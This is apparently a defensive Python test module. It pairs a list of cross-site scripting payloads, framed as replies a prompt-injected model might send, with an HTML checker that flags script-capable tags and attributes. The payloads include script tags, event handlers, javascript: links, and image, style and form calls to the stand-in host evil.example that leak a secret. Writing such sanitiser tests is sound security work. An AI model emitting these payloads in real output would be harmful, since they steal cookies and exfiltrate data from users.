"""Replies a prompt-injected model could send, and a checker that HTML is inert."""

from __future__ import annotations

from html.parser import HTMLParser

HOSTILE_REPLIES = {
    "script tag": "Here you go <script>alert(document.cookie)</script> done",
    "script block": "<script>\nwindow.hacked = 1\n</script>",
    "img onerror": 'Look: <img src=x onerror="alert(1)">',
    "svg onload": "<svg onload=alert(1)><circle r=5></circle></svg>",
    "markdown javascript link": "[click me](javascript:alert(1))",
    "markdown javascript link, encoded": "[click](jav&#x61;script:alert(1)) [x](JaVaScRiPt:alert(1))",
    "html javascript link": '<a href="javascript:alert(1)">click</a>',
    "data url link": "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "iframe": '<iframe src="https://evil.example/"></iframe>',
    "iframe srcdoc": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "style url": '<div style="background:url(javascript:alert(1))">x</div><style>body{background:url(https://evil.example/leak)}</style>',
    "attribute-breaking image title": '![a](https://example.org/x.png "title\\" onerror=\\"alert(1))',
    "image exfiltration": "![loading](https://evil.example/log?secret=abc)",
    "form and input": '<form action="https://evil.example"><input name=q autofocus onfocus=alert(1)></form>',
    "object and embed": '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
    "meta refresh": '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "event handler in markdown table": "| a |\n|---|\n| <b onmouseover=alert(1)>x</b> |",
    "relative link into the server": "[files](/api/contents) [up](../../etc)",
    "code fence is fine": "```html\n<script>alert(1)</script>\n```",
    "script in inline math": "Sum: $<script>alert(1)</script>$ and $x</span><img src=x onerror=alert(1)>$",
    "html in display math": "$$<img src=x onerror=alert(1)>$$\n\n$$\n</div><iframe src=javascript:alert(1)>\n$$",
    "html in bracket math": "\\(<svg onload=alert(1)>\\) and \\[</span><script>alert(1)</script>\\]",
    "html in a display bracket block": "\\[\n<a href=javascript:alert(1)>x</a>\n\\]",
    "math links": "$\\href{javascript:alert(1)}{click}$ \\(\\href{data:text/html,x}{y}\\)",
    "html in an environment": "\\begin{align}\n<script>alert(1)</script> &= 1\n\\end{align}",
    "html in highlighted code": "```javascript\ndocument.write('<script>alert(1)</script>'); // <img src=x onerror=alert(1)>\n```",
    "html in highlighted markup code": "```html\n<img src=x onerror=alert(1)><a href=javascript:alert(1)>x</a>\n```",
    "attribute injection through the language": '```python" onmouseover="alert(1)\nx = 1\n```',
    "html in inline code": "`<script>alert(1)</script>` and `<img src=x onerror=alert(1)>`",
    "html between prices": "$5 <script>alert(1)</script> and $6 <img src=x onerror=alert(1)>",
    "task list with html": "- [ ] <input type=checkbox onclick=alert(1)>\n- [x] <img src=x onerror=alert(1)>",
}

ALLOWED_SCHEMES = ("http://", "https://", "mailto:")
FORBIDDEN_TAGS = {"script", "iframe", "img", "svg", "object", "embed", "form", "input", "meta", "style", "link", "base"}


class _Collector(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, attrs))

    handle_startendtag = handle_starttag


def problems(html: str) -> list[str]:
    """Everything in ``html`` that could run script, load a resource or leave the page."""
    collector = _Collector()
    collector.feed(html)
    found = []
    for tag, attrs in collector.tags:
        if tag in FORBIDDEN_TAGS:
            found.append(f"<{tag}>")
        for name, value in attrs:
            value = (value or "").strip().lower()
            if name.startswith("on"):
                found.append(f"{tag}[{name}]")
            if name in ("href", "src", "action", "data", "srcdoc", "formaction", "xlink:href") and name != "href":
                found.append(f"{tag}[{name}]")
            if name == "href" and not value.startswith(ALLOWED_SCHEMES):
                found.append(f"{tag}[href={value}]")
            if name == "style" and ("url(" in value or "expression" in value):
                found.append(f"{tag}[style={value}]")
    return found
